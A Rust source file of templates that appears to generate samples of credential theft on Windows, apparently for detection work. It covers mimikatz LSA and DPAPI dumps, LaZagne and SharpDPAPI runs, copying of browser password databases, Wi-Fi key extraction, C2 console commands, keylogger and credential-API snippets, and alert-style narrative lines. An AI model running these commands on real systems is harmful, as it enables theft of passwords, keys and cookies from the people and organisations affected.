//! Secrets that are not the account database: LSA secrets and cached logons alone,
//! DPAPI, vaults, browsers, Wi-Fi, registry values and files with passwords.

use crate::generate::family::{Family, Kind::Cmd, Kind::Code, Kind::Console, Kind::Sh, Kind::Told};

pub const FAMILIES: &[Family] = &[
    Family::other("lsa-secrets", "lsa-secrets-cache", Cmd, &[
        concat!(
            r#"{m} "«privilege::debug" "¦token::elevate" "¦privilege::debug" "token::elevate" "#,
            r#""»lsadump::«secrets¦cache¦secrets" "lsadump::cache»"« exit¦ "exit"»"#,
        ),
        "{m} lsadump::«secrets¦cache» exit > {outfile}",
        r#"{m} "token::elevate" "lsadump::cache /«user:{user} /ntlm:{nthash}¦kiwi»" exit"#,
        "«cachedump¦cachedump.exe¦CacheDump64.exe»« -v¦ -d¦»",
        concat!(
            "«lsadump2¦lsadump2.exe¦LSASecretsDump.exe¦LSASecretsView.exe /stext ",
            "{stem}.txt¦LsaSecretRead.exe DPAPI_SYSTEM»",
        ),
        "gsecdump«.exe» -«l¦w¦u»",
        r#"powershell -ep bypass -c "Import-Module .\Get-LsaSecret.ps1; Enable-TSDuplicateToken; Get-LsaSecret""#,
        r#"powershell -c "Invoke-Mimikatz -Command '\"token::elevate\" \"lsadump::«secrets¦cache»\"'""#,
        r#"nltest /sc_reset:{domain} & {m} "lsadump::cache" exit"#,
        r#"sc qc {svcname} & sc qc MSSQLSERVER & {m} "lsadump::secrets" exit"#,
        concat!(
            r#"reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon" /v CachedLogonsCount /t "#,
            "REG_SZ /d {0..50} /f",
        ),
        r#"reg query "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon" /v CachedLogonsCount"#,
        r#"wmic service where "startname like '%{user}%'" get name,startname"#,
        "LaZagne.exe «windows -lsa_secrets¦windows -cachedump»",
        "CachedMSCacheV2.exe {user} {hex32}",
        "creds.exe /lsa /cache",
    ])
    .slots(&[
        ("m", concat!(
                r"«mimikatz¦mimikatz.exe¦.\mimikatz.exe¦x64\mimikatz.exe¦{dir}\mimikatz.exe¦{dir}\{alnum4}.exe¦m64",
                ".exe¦SafetyKatz.exe¦BetterSafetyKatz.exe»",
            )),
    ])
    .weight(12),
    Family::other("lsa-secrets-unix", "lsa-secrets-unix", Sh, &[
        "{nxc} smb {nxctarget} {nxcauth} --lsa«  secdump¦ regdump¦ | tee {shout}¦ --log {stem}.log»",
        "{nxc} smb --lsa {nxctarget} {nxcauth}",
        "{nxc} «smb¦winrm» {nxctarget} {nxcauth} --lsa --no-output",
        "{nxc} smb {nxctarget} {nxcauth} --dpapi« cookies¦ nosystem»",
        "for h in $(cat hosts.txt); do {nxc} smb $h {nxcauth} --lsa >> {shout}; done",
        "hashcat -m 2100 {shout} {stem}.txt« --force»",
        "hashcat -m «2100¦1100» '$DCC2$10240#{user}#{hex32}' rockyou.txt",
        "john --format=mscash«2» {shout}« --wordlist={stem}.txt»",
        concat!(
            "{nxc} smb {nxctarget} {nxcauth} -M «teams_localdb¦wifi¦keepass_discover¦keepass_trigger -o ",
            "ACTION=ALL KEEPASS_CONFIG_PATH={dir}¦veeam¦winscp¦putty¦rdcman¦mremoteng¦vnc¦iis¦reg-winlogon¦gp",
            "p_autologin¦gpp_password¦security-questions¦firefox¦notepad++¦powershell_history»",
        ),
        concat!(
            "«proxychains »dploot «masterkeys¦credentials¦vaults¦certificates¦browser¦rdg¦machinecredentials¦",
            "machinemasterkeys¦wifi¦sccm¦backupkey» -d {domain} -u {user} -p {password} {rhost}",
        ),
        concat!(
            "donpapi collect -u {user} -p {password} -d {domain} -t {cidr} --collectors ",
            "«Chromium¦Firefox¦Wifi,VNC¦CredMan,Vaults¦Certificates¦RDCMan,MRemoteNG»",
        ),
        concat!(
            "{i}dpapi.py «backupkeys -t {domain}/{user}:{password}@{fqdn} --export¦masterkey -file {guid} ",
            "-pvk {stem}.pvk¦credential -file {HEX32} -key 0x{hex64}¦vault -vcrd {HEX32}.vcrd -key ",
            "0x{hex64}¦unprotect -file {stem} -key 0x{hex64}»",
        ),
        r"{python} masky -d {domain} -u {user} -p {password} -ca '{fqdn}\{stem}' {rhost}",
        "{python} gMSADumper.py -u {user} -p {password} -d {domain}",
        "pyLAPS.py --action get -u {user} -d {domain} -p {password} --dc-ip {ip}",
        "{python} firepwd.py -d {shdir}",
        "SharpDPAPI.exe backupkey /server:{fqdn} /file:{stem}.pvk",
        concat!(
            "pypykatz dpapi «prekey password {sid} {password}¦masterkey {guid} {stem}¦credential {HEX32} ",
            "{stem}¦chrome --logindata 'Login Data' {stem} {stem}»",
        ),
        "gpp-decrypt «{b64_44}¦{b64_60}=»",
        "hcxdumptool -i wlan0 -w {stem}.pcapng",
        "airmon-ng start wlan0 && airodump-ng wlan0mon -w {stem}",
    ])
    .slots(&[
        ("i", "«impacket-¦»"),
    ]),
    Family::other("dpapi", "dpapi-vault", Cmd, &[
        concat!(
            "«SharpDPAPI.exe¦SharpDPAPI» «triage¦masterkeys /pvk:{stem}.pvk¦credentials ",
            "/password:{password}¦vaults¦rdg¦keepass¦certificates ",
            "/machine¦machinemasterkeys¦machinecredentials¦machinevaults¦machinetriage¦backupkey ",
            "/server:{fqdn} /file:{stem}.pvk¦blob /target:{stem} /unprotect¦ps /target:{stem}.xml»",
        ),
        concat!(
            r#"mimikatz "dpapi::«cred /in:C:\Users\{user}\AppData\Local\Microsoft\Credentials\{HEX32}¦masterkey"#,
            " /in:{guid} /rpc¦masterkey /in:{guid} /sid:{sid} /password:{password} /protected¦chrome ",
            r#"/in:\"%localappdata%\Google\Chrome\User Data\Default\Cookies\" /unprotect¦vault "#,
            "/cred:{HEX32}.vcrd /policy:Policy.vpol¦cache¦wifi /in:{stem}.xml /unprotect¦cng /in:{stem}¦rdg ",
            r#"/in:{stem}.rdg /unprotect¦ssh /hive:NTUSER.DAT»" exit"#,
        ),
        r#"mimikatz "vault::«list¦cred /patch¦cred»" "exit""#,
        concat!(
            r#"mimikatz "crypto::«capi" "crypto::certificates /systemstore:local_machine /export¦keys "#,
            r#"/export¦cng¦stores¦sc¦hash»" exit"#,
        ),
        concat!(
            r#"vaultcmd /«list¦listcreds:"Windows Credentials"¦listcreds:"Web Credentials" "#,
            r#"/all¦listproperties:"Web Credentials"¦listschema»"#,
        ),
        concat!(
            r"cmdkey /«list¦list:{host}¦delete:{host}¦add:{host} /user:{domain}\{user} ",
            "/pass:{password}¦generic:TERMSRV/{host} /user:{user} /pass:{password}»",
        ),
        "rundll32.exe keymgr.dll,«KRShowKeyMgr¦ KRShowKeyMgr»",
        concat!(
            r"dir /a «C:\Users\{user}¦%userprofile%»\AppData\«Local¦Roaming»\Microsoft\«Credentials¦Protect¦Va",
            r"ult»\",
        ),
        r"copy %APPDATA%\Microsoft\Protect\{sid}\{guid} {outfile}",
        r"xcopy /h C:\Users\{user}\AppData\Local\Microsoft\Credentials\{HEX32} {outdir}",
        r"dir /a C:\Windows\System32\config\systemprofile\AppData\Local\Microsoft\Credentials",
        r"copy C:\Windows\System32\config\systemprofile\AppData\Local\Microsoft\Credentials\{HEX32} {outfile}",
        r"copy C:\Windows\System32\Microsoft\Protect\S-1-5-18\User\{guid} {outfile}",
        "CredentialsFileView.exe /stext {stem}.txt",
        concat!(
            "«VaultPasswordView¦DataProtectionDecryptor¦netpass¦RouterPassView¦mspass¦OperaPassView¦WirelessK",
            "eyView¦ChromePass¦PasswordFox¦IEPassView¦rdpv¦Dialupass¦PstPassword¦BulletsPassView»«64».exe ",
            "/«stext¦shtml¦scomma» {stem}.txt",
        ),
        "credwiz.exe",
        r#""%SystemRoot%\system32\credwiz.exe""#,
        r"dpapick-unprotect.exe --masterkeydir %APPDATA%\Microsoft\Protect --sid {sid}",
        concat!(
            "certutil -«exportPFX -p {password} My {stem} {stem}.pfx¦user -store My¦store -silent My¦-dump ",
            "{stem}.pfx¦backupKey {dir}¦catemplates¦config - -ping¦csptest¦viewstore»",
        ),
        "SharpVault.exe & SharpCloud.exe all",
        r#"runas /savecred /user:{domain}\{user} "cmd /c {dir}\{stem}.bat""#,
        r#"findstr /s /i "BEGIN RSA PRIVATE" C:\Users\*.pem"#,
        "tokenvator.exe Sample_Processes",
    ])
    .weight(12),
    Family::other("browser-credentials", "browser-wifi", Cmd, &[
        r#"copy "{b}" {outfile}"#,
        r#"xcopy /y /h "{b}" {outdir}"#,
        r#"esentutl«.exe» /y /vss "{b}" /d {outfile}"#,
        r"esentutl /y %LocalAppData%\Microsoft\Windows\WebCache\WebCacheV01.dat /d {outfile} /vss",
        r#"robocopy "%LocalAppData%\Google\Chrome\User Data\Default" {dir} "Login Data" Cookies "Web Data" /b"#,
        r#"taskkill /f /im «chrome.exe¦msedge.exe¦firefox.exe» & copy "{b}" {outfile}"#,
        concat!(
            "LaZagne.exe «browsers¦browsers -firefox¦wifi -oN¦mails¦all -oJ -output ",
            "{dir}¦sysadmin¦databases¦git¦memory -vv¦chats»",
        ),
        concat!(
            "«SharpChrome¦SharpChromium¦HackBrowserData¦hack-browser-data¦SharpWeb¦Chromium-Decryptor¦CookieK",
            "atz¦ChromeKatz».exe «logins /unprotect¦cookies /showall /format:json¦all¦-b all -f json --dir ",
            "{dir}¦/pid:{pid}¦statekeys /unprotect»",
        ),
        concat!(
            r#"netsh wlan «show profile¦show profiles name=* key=clear¦show profile name="{stem}" "#,
            r#"key=clear¦export profile folder={dir} key=clear¦export profile name="{stem}" folder={dir} "#,
            "key=clear¦show interfaces¦show networks mode=bssid»",
        ),
        concat!(
            r#"for /f "skip=9 tokens=1,2 delims=:" %i in ('netsh wlan show profiles') do @echo %j | findstr -i "#,
            "-v echo | netsh wlan show profiles %j key=clear",
        ),
        r#"cmd /c netsh wlan show profile name="{stem}" key=clear | findstr Key"#,
        concat!(
            r#""C:\Program Files\Google\Chrome\Application\chrome.exe" --remote-debugging-port={port} "#,
            r#"--user-data-dir="{dir}" --restore-last-session"#,
        ),
        "msedge.exe --headless --enable-logging --disable-gpu --dump-dom {url}",
        r#"sqlite3.exe "{b}" "select origin_url, username_value, password_value from logins""#,
        r#"sqlite3 cookies.sqlite "select host,name,value from moz_cookies" > {outfile}"#,
        concat!(
            r"copy %APPDATA%\Mozilla\Firefox\Profiles\{alnum8}.default-release\«logins.json¦key4.db¦cert9.db¦c",
            "ookies.sqlite» {outdir}",
        ),
        r#"type "%LocalAppData%\Google\Chrome\User Data\Local State" | findstr encrypted_key"#,
        r#"rundll32.exe dataexchange.dll,{stem} "{b}""#,
        r#"7z a {stem}.zip "%APPDATA%\Mozilla\Firefox\Profiles""#,
        r#"7z a -tzip {stem}.zip "%APPDATA%\Telegram Desktop\tdata" "%APPDATA%\discord\Local Storage\leveldb""#,
        r#"copy "%APPDATA%\Exodus\exodus.wallet\seed.seco" {outfile}"#,
        r"dir /s /b C:\Users\*wallet.dat C:\Users\*.kdbx",
        r#""C:\Program Files\KeePass Password Safe 2\KeePass.exe" --set-urloverride:ssh://cmd"#,
        r"KeeThief.exe & copy %APPDATA%\KeePass\KeePass.config.xml {outfile}",
    ])
    .slots(&[
        ("b", concat!(
                r"«C:\Users\{user}\AppData\Local\Google\Chrome\User Data\Default\Login ",
                r"Data¦%LocalAppData%\Google\Chrome\User Data\Default\«Login Data¦Cookies¦Web ",
                r"Data¦History¦Network\Cookies»¦%LocalAppData%\Microsoft\Edge\User Data\Default\Login ",
                r"Data¦%LocalAppData%\BraveSoftware\Brave-Browser\User Data\Default\Login Data¦%APPDATA%\Opera ",
                r"Software\Opera Stable\Login Data»",
            )),
    ])
    .weight(12),
    Family::other("secrets-console", "secrets-console", Console, &[
        concat!(
            "mimikatz # lsadump::«secrets¦cache»⏎«Domain : {plainhost}⏎SysKey : {hex32}⏎⏎Policy subsystem is ",
            ": 1.18⏎LSA Key(s) : 1»",
        ),
        "mimikatz # token::elevate⏎mimikatz # lsadump::«secrets¦cache»",
        concat!(
            "mimikatz # «vault::cred¦vault::list¦dpapi::cred /in:{HEX32}¦dpapi::masterkey /in:{guid} ",
            "/rpc¦crypto::certificates /export¦crypto::keys¦dpapi::chrome ",
            r#"/in:"%localappdata%\Google\Chrome\User Data\Default\Login "#,
            r#"Data"¦dpapi::cache¦dpapi::wifi¦lsadump::backupkeys /system:{fqdn} /export»"#,
        ),
        concat!(
            "meterpreter > «lsa_dump_secrets¦run post/windows/gather/lsa_secrets¦run ",
            "post/windows/gather/cachedump¦wifi_list¦wifi_list_shared¦creds_tspkg¦run ",
            "post/multi/gather/firefox_creds¦run post/windows/gather/enum_chrome¦run ",
            "post/windows/gather/credentials/gpp¦run post/windows/wlan/wlan_profile¦run ",
            "post/multi/gather/ssh_creds¦search -f *.kdbx¦keyscan_dump¦run ",
            "post/windows/gather/credentials/windows_autologin¦load extapi⏎meterpreter > clipboard_get_data»",
        ),
        concat!(
            "use post/«windows/gather/credentials/«vnc¦winscp¦filezilla_server¦outlook¦gpp¦enum_laps¦credenti",
            "al_collector_saved¦teamviewer_passwords¦mremote¦bulletproof_ftp¦sso¦total_commander»¦windows/gat",
            "her/cachedump¦windows/gather/lsa_secrets¦multi/gather/«firefox_creds¦docker_creds¦aws_keys¦pgpas",
            "s_creds¦ssh_creds¦maven_creds¦filezilla_client_cred»¦windows/gather/enum_unattend¦windows/gather",
            "/dpapi¦windows/gather/phish_windows_credentials»⏎set SESSION {1..9}⏎run",
        ),
        concat!(
            "beacon> «mimikatz lsadump::secrets¦mimikatz !lsadump::cache¦mimikatz ",
            "lsadump::cache¦chromedump¦mimikatz dpapi::cred /in:{HEX32}¦execute-assembly ",
            "{shdir}/SharpDPAPI.exe triage¦execute-assembly {shdir}/SharpChrome.exe logins /unprotect¦shell ",
            "netsh wlan show profile¦credprompt¦shell cmdkey /list¦powerpick ",
            "Get-GPPPassword¦execute-assembly {shdir}/Seatbelt.exe -group=user¦askcreds¦shell vaultcmd ",
            r#"/listcreds:"Windows Credentials"¦shell reg query HKCU\Software\SimonTatham\PuTTY\Sessions "#,
            r"/s¦reg query x64 HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon»",
        ),
        concat!(
            "(Empire: {ALNUM8}) > usemodule powershell/«credentials/mimikatz/«cache¦certs¦keys¦secrets¦mimito",
            "kens¦pth¦purge¦trust_keys»¦credentials/«sessiongopher¦vault_credential¦credential_injection¦toke",
            "ns¦enum_cred_store¦invoke_internal_monologue¦get_lapspasswords¦DomainPasswordSpray»¦collection/«",
            "ChromeDump¦FoxDump¦clipboard_monitor¦prompt¦browser_data¦keylogger»¦privesc/gpp»⏎execute",
        ),
        concat!(
            "sliver ({ALNUM8}) > «sharpdpapi triage¦sharpchrome logins¦execute-assembly SharpDPAPI.exe ",
            "machinetriage¦sharplaps /host:{ip}¦credman¦c2tc-lapsdump {plainhost}¦sharp-hound-4 -- -c ",
            "All¦execute -o cmdkey /list¦chromiumkeydump»",
        ),
        concat!(
            "demon > «dotnet inline-execute {shdir}/SharpDPAPI.exe credentials¦shell cmdkey ",
            "/list¦cookie-monster --chrome -p {pid}¦dotnet inline-execute SharpChrome.exe cookies»",
        ),
        concat!(
            "mythic> «execute_assembly -Assembly SharpDPAPI.exe -Arguments triage¦mimikatz -Command ",
            r#""lsadump::secrets"¦mimikatz -Command "lsadump::cache"¦keylog_inject {pid}»"#,
        ),
        concat!(
            r#"covenant> «LsaSecrets¦LsaCache¦Mimikatz "vault::cred"¦SharpDPAPI triage¦Keylogger 60¦Seatbelt "#,
            "WindowsCredentialFiles»",
        ),
        concat!(
            "koadic: sta> use implant/«gather/clipboard¦gather/enum_printers¦phish/password_box¦gather/user_h",
            "unter»⏎run",
        ),
        "PoshC2> «get-keystrokes¦sharpdpapi¦get-gpppassword¦invoke-psuacme¦get-wlanpass¦cred-popper Outlook»",
    ]),
    Family::other("secrets-told", "secrets-told", Told, &[
        "{who} «dumped¦read¦extracted¦decrypted¦stole» {w}«  with {t}»{where}.",
        "{w2} «was¦were» «read¦stolen¦decrypted¦exported» «by {t}¦from {plainhost}¦by {account}».",
        "«Alert¦Detection»: {t} {did} {w}{where}",
        concat!(
            "{who} searched the registry for «passwords¦stored credentials¦PuTTY sessions¦VNC ",
            "passwords¦autologon values»{where}.",
        ),
        concat!(
            "{who} found «a password in an unattend file¦credentials in web.config¦cpassword in ",
            "Groups.xml¦an SSH key¦a KeePass database¦passwords in a spreadsheet»{where}.",
        ),
        "{who} used lsadump::«secrets¦cache» to get «service account passwords¦cached domain logons»{where}.",
        "{who} queried the Winlogon key for DefaultPassword{where}.",
        "Credential Manager credentials were read. Subject: {account} Read Operation: Enumerate Credentials",
        "Vault credentials were read by {t}{where}, {1..40} entries.",
        "The browser's Login Data file was «copied¦opened» by {t}{where}.",
        concat!(
            "DPAPI: attempt to «unprotect¦back up» the master key {guid}. Subject: {account} «Recovery ",
            "Server: {fqdn}¦»",
        ),
        "{who} showed a fake credential prompt to {user} and captured the password.",
        "{who} cracked a cached domain logon (MSCacheV2) of {user} with hashcat -m 2100.",
        r"Read access to C:\Users\{user}\AppData\Local\Google\Chrome\User Data\Default\Login Data by {t}",
    ])
    .slots(&[
        ("t", concat!(
                "«mimikatz¦LaZagne¦SharpDPAPI¦SharpChrome¦NirSoft tools¦netexec --lsa¦a PowerShell ",
                "script¦{stem}.exe¦esentutl.exe¦reg.exe¦vaultcmd.exe¦cmdkey.exe¦netsh»",
            )),
        ("did", "«accessed¦read¦dumped¦decrypted»"),
        ("w", concat!(
                "«LSA secrets¦cached domain credentials¦the cached logons¦browser passwords¦saved browser ",
                "credentials¦Wi-Fi keys¦Wi-Fi profiles in clear text¦DPAPI master keys¦the domain DPAPI backup ",
                "key¦Credential Manager entries¦vault credentials¦the web cookies of {user}¦the KeePass ",
                "database¦private keys¦group policy passwords¦LAPS passwords¦gMSA passwords¦RDP ",
                "credentials¦saved sessions of PuTTY and WinSCP¦service account passwords¦the AutoLogon password»",
            )),
        ("w2", concat!(
                "«LSA secrets¦Cached domain logons¦Browser passwords¦Wi-Fi keys¦DPAPI master keys¦Credential ",
                "Manager entries¦The KeePass database¦Private keys¦Group policy passwords¦Saved RDP credentials»",
            )),
    ])
    .weight(12),
    Family::other("secrets-source", "secrets-source", Code, &[
        concat!(
            r#"CredEnumerate«A¦W»(NULL, 0, &count, &creds); for (i = 0; i < count; i++) printf("%s", "#,
            "creds[i]->TargetName);",
        ),
        "CryptUnprotectData(&in, NULL, NULL, NULL, NULL, 0, &out);",
        concat!(
            "VaultEnumerateVaults(0, &count, &vaults); VaultOpenVault(&vaults[i], 0, &hVault); ",
            "VaultEnumerateItems(hVault, 512, &n, &items);",
        ),
        "win32crypt.CryptUnprotectData(value, None, None, None, 0)[1]",
        concat!(
            r"conn = sqlite3.connect(os.path.expandvars(r'%LOCALAPPDATA%\Google\Chrome\User ",
            r"Data\Default\Login Data'))⏎for url, user, pw in conn.execute('select origin_url, ",
            "username_value, password_value from logins'):⏎    print(url, user)",
        ),
        "LsaRetrievePrivateData(hPolicy, &keyName, &data); // «DefaultPassword¦$MACHINE.ACC¦NL$KM»",
        "LsaStorePrivateData(policy, &name, &value);",
        "LsaQuerySecret(secret, &cur, NULL, &old, NULL);",
        concat!(
            r#"RegOpenKeyExA(HKEY_CURRENT_USER, "Software\\SimonTatham\\PuTTY\\Sessions", 0, KEY_READ, &hKey); "#,
            "RegEnumKeyExA(hKey, i, name, &len, 0, 0, 0, 0);",
        ),
        concat!(
            r#"RegGetValueA(HKEY_LOCAL_MACHINE, "SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon", "#,
            r#""DefaultPassword", RRF_RT_REG_SZ, NULL, buf, &len);"#,
        ),
        r#"winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\Martin Prikryl\WinSCP 2\Sessions")"#,
        "var blob = ProtectedData.Unprotect(File.ReadAllBytes(path), null, DataProtectionScope.CurrentUser);",
        concat!(
            "WlanGetProfile(hClient, &iface, profile, NULL, &xml, &flags, &access); // ",
            "WLAN_PROFILE_GET_PLAINTEXT_KEY",
        ),
        "netsh = subprocess.check_output(['netsh', 'wlan', 'show', 'profile', name, 'key=clear'])",
        concat!(
            "CredUIPromptForWindowsCredentials«A¦W»(&info, 0, &pkg, NULL, 0, &out, &size, &save, ",
            "CREDUIWIN_GENERIC);",
        ),
        "SetWindowsHookEx(WH_KEYBOARD_LL, HookProc, hInst, 0); while (GetMessage(&msg, NULL, 0, 0)) {}",
        concat!(
            "LsaConnectUntrusted(&hLsa); LsaCallAuthenticationPackage(hLsa, pkg, &req, sizeof(req), &resp, ",
            "&len, &st);",
        ),
        r#"keyring.get_password("{stem}", "{user}")"#,
        concat!(
            "self.__LSASecrets = LSASecrets(securityFileName, bootKey, remoteOps, ",
            "isRemote=True)⏎self.__LSASecrets.«dumpCachedHashes()¦dumpSecrets()»",
        ),
    ])
    .weight(8),
];
